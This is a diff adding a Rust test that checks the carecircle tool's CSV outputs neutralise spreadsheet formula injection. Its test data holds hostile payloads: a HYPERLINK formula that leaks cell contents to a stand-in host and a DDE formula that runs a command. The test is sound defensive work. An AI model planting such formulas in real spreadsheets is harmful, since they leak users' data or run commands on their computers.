@@ -237,3 +237,148 @@ fn outputs_and_state_are_checked_before_they_fail() {
     assert_eq!(out.status.code(), Some(2));
     assert!(stderr(&out).contains("at most 2000"), "{}", stderr(&out));
 }
+
+/// Every CSV carecircle writes is safe to open in Excel: the names of a dataset whose every name is a
+/// formula (`=HYPERLINK(…)`, `+SUM(…)`, `-2+3`, `@cmd`, a leading tab) reach findings.csv, summary.csv,
+/// ledger.csv, the comparison, sites.csv, access.csv, streets.csv and the allocation as text with a
+/// leading `'`, and no cell anywhere starts a formula; plain numbers stay numbers.
+#[test]
+fn no_csv_cell_is_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    std::fs::create_dir(&data).unwrap();
+    demo_copy(&data);
+    let prefixes = [
+        "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\") ",
+        "+SUM(A1:A9) ",
+        "-2+3 ",
+        "@cmd ",
+        "\t",
+    ];
+    for layer in ["admin_units", "residential_areas", "facilities", "candidates"] {
+        let path = data.join(format!("{layer}.geojson"));
+        let mut doc: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+        for (k, f) in doc["features"].as_array_mut().unwrap().iter_mut().enumerate() {
+            if let Some(name) = f["properties"]["name"].as_str() {
+                f["properties"]["name"] = format!("{}{name}", prefixes[k % prefixes.len()]).into();
+            }
+        }
+        std::fs::write(&path, serde_json::to_vec(&doc).unwrap()).unwrap();
+    }
+    let d = data.to_str().unwrap();
+    let out = |name: &str| dir.path().join(name).to_str().unwrap().to_string();
+    let mut csvs: Vec<(String, Vec<u8>)> = Vec::new();
+    let run = |args: &[&str]| {
+        let o = carecircle(args);
+        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
+        o.stdout
+    };
+    run(&[
+        "check",
+        d,
+        "--rules",
+        "anxi-2022",
+        "mawei-2020",
+        "--by",
+        "community",
+        "--no-maps",
+        "--out",
+        &out("new"),
+    ]);
+    run(&[
+        "check",
+        d,
+        "--rules",
+        "anxi-2022",
+        "mawei-2020",
+        "--as-of",
+        "2021-12-31",
+        "--no-maps",
+        "--out",
+        &out("old"),
+    ]);
+    for file in ["findings.csv", "summary.csv", "ledger.csv"] {
+        csvs.push((file.into(), std::fs::read(dir.path().join("new").join(file)).unwrap()));
+    }
+    csvs.push((
+        "compare".into(),
+        run(&[
+            "compare",
+            &out("old"),
+            &out("new"),
+            "--by",
+            "community",
+            "--format",
+            "csv",
+        ]),
+    ));
+    run(&[
+        "site",
+        d,
+        "--rules",
+        "anxi-2022",
+        "--rule",
+        "anxi-2022/service-radius",
+        "--add",
+        "3",
+        "--out",
+        &out("site"),
+    ]);
+    csvs.push((
+        "sites.csv".into(),
+        std::fs::read(dir.path().join("site/sites.csv")).unwrap(),
+    ));
+    run(&[
+        "access",
+        d,
+        "--rules",
+        "anxi-2022",
+        "--rule",
+        "anxi-2022/service-radius",
+        "--out",
+        &out("access"),
+    ]);
+    for file in ["access.csv", "streets.csv"] {
+        csvs.push((
+            file.into(),
+            std::fs::read(dir.path().join("access").join(file)).unwrap(),
+        ));
+    }
+    let plan = std::fs::read_to_string("rules/fuzhou-2021-targets.toml")
+        .unwrap()
+        .replace("\"urban\"", "\"=cmd|' /C calc'!A0\"");
+    let plan_file = dir.path().join("plan.toml");
+    std::fs::write(&plan_file, plan).unwrap();
+    csvs.push((
+        "allocation".into(),
+        run(&["allocate", plan_file.to_str().unwrap(), "--format", "csv"]),
+    ));
+
+    let plain_number = |c: &str| c.trim_start_matches(['+', '-']).parse::<f64>().is_ok() && !c.contains(['e', 'E']);
+    let mut neutralised = 0;
+    for (what, bytes) in &csvs {
+        let text = String::from_utf8(bytes.clone()).unwrap();
+        assert!(text.starts_with('\u{feff}'), "{what} starts with a byte-order mark");
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                cells += 1;
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number(cell),
+                    "{what}: the cell {cell:?} would be a formula in Excel"
+                );
+                if cell.starts_with("'=") || cell.starts_with("'+") || cell.starts_with("'@") || cell.starts_with("'\t")
+                {
+                    neutralised += 1;
+                }
+            }
+        }
+        assert!(cells > 3, "{what} has cells");
+    }
+    // The names did reach the files (else the test proves nothing).
+    assert!(neutralised > 50, "{neutralised} neutralised cells");
+}
